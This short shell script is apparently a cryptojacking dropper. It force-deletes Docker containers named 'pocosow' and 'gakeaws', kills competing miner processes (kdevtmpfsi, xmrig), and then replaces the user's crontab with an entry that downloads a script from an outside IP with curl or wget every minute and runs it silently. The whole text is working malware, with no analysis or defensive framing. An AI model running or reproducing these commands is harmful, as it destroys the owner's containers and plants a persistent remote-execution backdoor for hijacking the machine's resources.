docker ps | grep "pocosow" | awk '{print $1}' | xargs -I % docker rm -f %
docker ps | grep "gakeaws" | awk '{print $1}' | xargs -I % docker rm -f %
pkill -f kdevtmpfsi
pkill -f xmrig
echo "* * * * * (curl -fsSL http://203.0.113.7/d.sh || wget -q -O - http://203.0.113.7/d.sh) | sh > /dev/null 2>&1" | crontab -
